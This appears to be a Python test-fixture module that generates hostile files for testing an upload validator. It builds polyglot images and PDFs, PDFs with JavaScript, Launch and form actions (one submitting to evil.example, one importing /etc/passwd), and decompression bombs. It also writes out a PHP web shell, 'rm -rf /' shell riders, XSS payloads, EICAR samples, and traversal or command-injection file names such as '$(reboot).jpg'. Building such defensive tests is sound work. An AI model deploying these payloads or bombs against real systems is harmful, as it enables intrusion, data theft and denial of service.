"""Files that must never be kept, in families; a family is a function that yields ``name, bytes`` and can grow by a line."""

import io
import random
import struct
import zipfile
import zlib
from functools import cache

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

pillow_heif.register_heif_opener()
FAMILIES = {}
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PAGE = b"<html><script>alert(document.cookie)</script></html>"
MB = 1024 * 1024


def family(function):
    FAMILIES[function.__name__] = function
    return function


def hostile_files():
    """Yield ``(family and name, bytes)`` of every file there is."""
    for title, files in FAMILIES.items():
        for name, data in files():
            yield f"{title}: {name}", data


# --- honest files to begin from -------------------------------------------------------------------------------------
@cache
def picture(form="JPEG", size=(320, 200), **options):
    out = io.BytesIO()
    noise = Image.effect_noise(size, 60)
    Image.merge("RGB", [noise, noise.transpose(Image.Transpose.ROTATE_180), noise]).save(out, form, **options)
    return out.getvalue()


def blank(pages=1):
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(612, 792))
    return pdf


def saved(pdf, **options):
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


@cache
def honest():
    return {
        "jpg": picture("JPEG"),
        "png": picture("PNG"),
        "heic": picture("HEIF"),
        "pdf": saved(blank(2)),
    }


def zipped(name, data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return out.getvalue()


def png_chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def jpeg_with_comment(comment):
    plain = honest()["jpg"]
    return plain[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + plain[2:]


def png_with_text(text):
    plain = honest()["png"]
    return plain[:33] + png_chunk(b"tEXt", b"Comment\0" + text) + plain[33:]


# --- the families ---------------------------------------------------------------------------------------------------
@family
def two_files_in_one():
    riders = {
        "pdf": honest()["pdf"],
        "zip": zipped("run.js", b"alert(1)"),
        "page": PAGE,
        "php": b"<?php system($_GET['c']); ?>",
        "program": b"MZ\x90\0" + bytes(100) + b"PE\0\0",
        "elf": b"\x7fELF\x02\x01\x01" + bytes(50),
        "rar": b"Rar!\x1a\x07\x01\0" + bytes(30),
        "svg": b'<svg onload="alert(1)"/>',
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "gzip": b"\x1f\x8b\x08\0" + bytes(20) + b"x",
        "java": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(20) + b"x",
        "flash": b"FWS\x09" + bytes(20) + b"x",
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(30),
    }
    for kind, plain in honest().items():
        for rider, data in riders.items():
            if (kind, rider) != ("pdf", "pdf"):  # a later PDF in a PDF is how changes are saved; its pages are copied
                yield f"{rider} behind {kind}", plain + data
    for kind, plain in honest().items():
        yield f"page before {kind}", PAGE + plain
        yield f"blank line before {kind}", b"\n" + plain
        yield f"zip before {kind}", riders["zip"] + plain
    for rider in ("pdf", "page", "php"):
        yield f"{rider} in the comment of a jpg", jpeg_with_comment(riders[rider])
        yield f"{rider} in the text of a png", png_with_text(riders[rider])
    yield "page in the head of a pdf", honest()["pdf"].replace(b"\n", b"\n%" + PAGE + b"\n", 1)


@family
def something_else():
    small = Image.new("RGB", (9, 9))
    for form in ("GIF", "WEBP", "TIFF", "BMP", "ICO", "PPM", "TGA", "AVIF"):
        out = io.BytesIO()
        small.save(out, form)
        yield form.lower(), out.getvalue()
    yield "svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "svg with a head", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "page", b"<!doctype html>" + PAGE
    yield "page that names a pdf later", b"<html>\n%PDF-1.7\n" + honest()["pdf"]
    yield "script", b"alert(1)"
    yield "shell", b"#!/bin/sh\nrm -rf /\n"
    yield "postscript", b"%!PS-Adobe-3.0\n(%PDF-1.7) show"
    yield "zip", zipped("id.jpg", honest()["jpg"])
    yield "word", zipped("word/document.xml", b"<w:document/>")
    yield "program", b"MZ" + bytes(200)
    yield "film", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(100)
    yield "film that says heic", b"\0\0\0\x18ftypheic\0\0\0\0mp42isom" + bytes(100)
    yield "text", b"This is my photo ID, I promise."
    yield "spaces", b" " * 5000
    yield "noise", random.Random(1).randbytes(5000)


@family
def broken():
    yield "nothing", b""
    yield "one byte", b"\xff"
    yield "too large", honest()["jpg"] + bytes(15 * MB)
    for kind, plain in honest().items():
        for part in (0.02, 0.1, 0.5, 0.9):
            yield f"{kind} cut at {part:.0%}", plain[: int(len(plain) * part)]
        yield f"{kind} without its end", plain[:-12]
        yield f"head of {kind}, then noise", plain[:20] + random.Random(kind).randbytes(3000)
        yield f"head of {kind}, then nothing", plain[:20] + bytes(3000)


def action(**entries):
    return Dictionary(Type=Name.Action, **entries)


def put(thing, **entries):
    for key, value in entries.items():
        thing[f"/{key}"] = value


def pdf_with(change):
    pdf = blank()
    change(pdf, pdf.pages[0])
    return saved(
        pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False
    )  # streams stay as made


SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
ACTIONS = {
    "script": SCRIPT,
    "script in a stream": {"S": Name.JavaScript},
    "program": {"S": Name.Launch, "F": String("cmd.exe")},
    "form that sends": {"S": Name.SubmitForm, "F": String("https://evil.example/")},
    "form that loads": {"S": Name.ImportData, "F": String("/etc/passwd")},
    "jump into another file": {"S": Name.GoToE, "F": String("a.pdf")},
    "rendition": {"S": Name.Rendition},
    "film": {"S": Name.Movie},
    "sound": {"S": Name.Sound},
    "rich media": {"S": Name.RichMediaExecute},
}


@family
def active_pdfs():
    def on_opening(pdf, page, entries):
        pdf.Root.OpenAction = action(**entries)

    def on_showing(pdf, page, entries):
        page.AA = Dictionary(O=action(**entries))

    def on_a_note(pdf, page, entries):
        page.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0] * 4), A=action(**entries))])

    def by_name(pdf, page, entries):
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action(**entries)])))

    def after_another(pdf, page, entries):
        pdf.Root.OpenAction = action(S=Name.URI, URI=String("https://example.org"), Next=Array([action(**entries)]))

    def in_a_field(pdf, page, entries):
        pdf.Root.AcroForm = Dictionary(Fields=Array([Dictionary(FT=Name.Tx, AA=Dictionary(K=action(**entries)))]))

    def in_the_outline(pdf, page, entries):
        pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=pdf.make_indirect(Dictionary(A=action(**entries)))))

    def on_closing(pdf, page, entries):
        pdf.Root.AA = Dictionary(WC=action(**entries))

    def on_a_button(pdf, page, entries):
        button = Dictionary(Subtype=Name.Widget, FT=Name.Btn, T=String("b"), Rect=Array([0] * 4), A=action(**entries))
        page.Annots = Array([pdf.make_indirect(button)])
        pdf.Root.AcroForm = Dictionary(Fields=page.Annots)

    places = [
        on_closing,
        on_a_button,
        on_opening,
        on_showing,
        on_a_note,
        by_name,
        after_another,
        in_a_field,
        in_the_outline,
    ]
    for place in places:
        for name, entries in ACTIONS.items():
            title = f"{name} {place.__name__.replace('_', ' ')}"
            yield title, pdf_with(lambda pdf, page, place=place, entries=entries: place(pdf, page, entries))
    for kind in ("RichMedia", "Screen", "Movie", "Sound", "3D"):
        note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]))
        yield f"{kind} on a page", pdf_with(lambda _pdf, page, note=note: put(page, Annots=Array([note])))
    form = Dictionary(Fields=Array([]), XFA=String("<xdp/>"))
    yield "XFA form", pdf_with(lambda pdf, _page: put(pdf.Root, AcroForm=form))
    elsewhere = {"/F": String("/etc/passwd")}
    yield (
        "stream kept elsewhere",
        pdf_with(lambda pdf, page: put(page, Contents=pdf.make_stream(b"", elsewhere))),
    )
    packed = saved(pikepdf.open(io.BytesIO(scripted())), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield "script in a packed object", packed
    yield (
        "script with an escaped name",
        scripted().replace(b"/JS ", b"/#4a#53 ").replace(b"/JavaScript", b"/J#61vaScript"),
    )
    yield "script nobody points to", scripted().replace(b"/OpenAction", b"/OpenNothin")


def scripted():
    return pdf_with(lambda pdf, _page: put(pdf.Root, OpenAction=pdf.make_indirect(action(**SCRIPT))))


@family
def pdfs_with_files_inside():
    def attach(pdf, name, data):
        pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, data, filename=name)

    inside = {
        "page": ("a.html", PAGE),
        "program": ("a.exe", b"MZ" + bytes(99)),
        "virus": ("a.com", EICAR),
        "pdf": ("a.pdf", honest()["pdf"]),
        "picture": ("a.jpg", honest()["jpg"]),
        "name that climbs": ("../../a.sh", b"#!/bin/sh"),
        "name that turns": ("a\u202egpj.exe", b"MZ"),
        "nothing": ("a.txt", b""),
    }
    for title, (name, data) in inside.items():
        with_file = pdf_with(lambda pdf, _page, name=name, data=data: attach(pdf, name, data))
        yield title, with_file
        yield f"{title}, nobody points to it", with_file.replace(b"/EmbeddedFiles", b"/Embeddedxxxxx")
        yield (
            f"{title}, as a portfolio",
            pdf_with(
                lambda pdf, _page, name=name, data=data: (
                    attach(pdf, name, data),
                    put(pdf.Root, Collection=Dictionary(Type=Name.Collection, View=Name.D)),
                )
            ),
        )


@family
def locked_pdfs():
    for revision in (2, 3, 4, 6):
        for owner, user in (("a", ""), ("a", "b"), ("", "b"), ("", "")):
            lock = pikepdf.Encryption(owner=owner, user=user, R=revision, aes=revision > 3, metadata=revision > 3)
            yield f"R{revision}, owner {owner or 'none'}, user {user or 'none'}", saved(blank(), encryption=lock)


@family
def floods():
    for width, height in ((60_000, 60_000), (2**31 - 1, 1), (8_000, 8_000), (1, 100_000_000)):
        head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
        body = zlib.compress(bytes(1000))
        chunks = png_chunk(b"IHDR", head) + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")
        yield f"png of {width} by {height}", b"\x89PNG\r\n\x1a\n" + chunks
    out = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(out, "PNG")
    yield "a real png of 144 million points", out.getvalue()
    plain = honest()["jpg"]
    frame = plain.index(b"\xff\xc0") + 5
    for size in (65_500, 20_000):
        yield f"jpg of {size} by {size}", plain[:frame] + struct.pack(">HH", size, size) + plain[frame + 4 :]
    yield "pdf of 41 pages", saved(blank(41))
    yield "pdf of 2,000 pages", saved(blank(2_000))
    for size in (50_000, 2**31 - 1):
        entries = {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": size, "/Height": size}
        yield (
            f"pdf picture of {size} by {size}",
            pdf_with(lambda pdf, page, e=entries: put(page, Contents=pdf.make_stream(b"x", e))),
        )
    tail = b"endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    yield "pdf nested a million deep", b"%PDF-1.4\n1 0 obj" + b"[" * MB + tail
    yield "pdf of dictionaries in dictionaries", b"%PDF-1.4\n1 0 obj" + b"<</A" * MB + tail
    loop = b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    yield "pdf whose pages hold themselves", b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n" + loop


@cache
def packed_zeros(size):
    return zlib.compress(bytes(size), 1)


@family
def bombs():
    def stream(packed, *filters):
        def change(pdf, page):
            page.Contents = pikepdf.Stream(pdf, packed)
            page.Contents.Filter = Array([Name(f"/{name}") for name in filters])

        return pdf_with(change)

    yield "flate", stream(packed_zeros(300 * MB), "FlateDecode")
    yield "flate in flate", stream(zlib.compress(packed_zeros(300 * MB), 1), "FlateDecode", "FlateDecode")
    yield "flate under its short name", stream(packed_zeros(300 * MB), "Fl")
    yield "flate behind ascii", stream(packed_zeros(300 * MB).hex().encode() + b">", "ASCIIHexDecode", "FlateDecode")
    yield "run length in flate", stream(zlib.compress(b"\x81\0" * 5 * MB, 1), "FlateDecode", "RunLengthDecode")

    def many(pdf, page):
        page.Contents = Array([pikepdf.Stream(pdf, packed_zeros(100 * MB)) for _ in range(30)])
        for part in page.Contents:
            part.Filter = Name.FlateDecode

    yield "thirty that are each allowed", pdf_with(many)
    yield "objects in a stream", object_stream_bomb()
    yield "zip of zeros", zipped("a", bytes(30 * MB))
    yield "zip of zeros behind a jpg", honest()["jpg"] + zipped("a", bytes(20 * MB))
    chunk = png_chunk(b"zTXt", b"Comment\0\0" + packed_zeros(300 * MB))
    yield "text of a png, behind which lies a page", honest()["png"][:33] + chunk + honest()["png"][33:] + PAGE


def object_stream_bomb():
    out, places = io.BytesIO(), {}
    out.write(b"%PDF-1.5\n")

    def write(number, body):
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, body))

    packed = zlib.compress(b"5 0 " + b" " * 300 * MB, 1)
    write(1, b"<</Type/Catalog/Pages 2 0 R/Extra 5 0 R>>")
    write(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    write(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
    head = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    write(4, head + packed + b"\nendstream")
    start = out.tell()
    rows = [(0, 0, 65535), *((1, places[number], 0) for number in (1, 2, 3, 4)), (2, 4, 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    head = b"<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(table)
    write(6, head + table + b"\nendstream")
    out.write(b"startxref\n%d\n%%%%EOF" % start)
    return out.getvalue()


@family
def the_test_virus():
    yield "plain", EICAR
    yield "in a zip", zipped("eicar.com", EICAR)
    yield "in a zip in a zip", zipped("a.zip", zipped("eicar.com", EICAR))
    yield "in the comment of a jpg", jpeg_with_comment(EICAR)
    yield "in the text of a png", png_with_text(EICAR)
    for kind, plain in honest().items():
        yield f"behind a {kind}", plain + EICAR
        yield f"before a {kind}", EICAR + plain
    packed = {"/Filter": Name.FlateDecode}
    yield (
        "packed on the page of a pdf",
        pdf_with(lambda pdf, page: put(page, Contents=pdf.make_stream(zlib.compress(EICAR), packed))),
    )
    yield "on the page of a pdf", pdf_with(lambda pdf, page: put(page, Contents=pdf.make_stream(EICAR)))


# Names decide nothing: each of these is tried on an honest file, which is kept under a name of ours, and on a page.
NAMES = [
    "id.jpg.html",
    "id.html.jpg",
    "id.pdf.exe",
    "../../../etc/cron.d/id.jpg",
    "..\\..\\windows\\id.jpg",
    "/etc/passwd",
    "id\0.jpg",
    "id\r\nSet-Cookie: a=b.jpg",
    "\u202egpj.exe",
    "\u200b.jpg",
    "身分証明書.jpg",
    "🪪.heic",
    "é" * 200 + ".jpg",
    "CON.jpg",
    ".htaccess",
    "-rf.jpg",
    "$(reboot).jpg",
    "<img src=x onerror=alert(1)>.png",
    "id.jpg::$DATA",
    "",
]
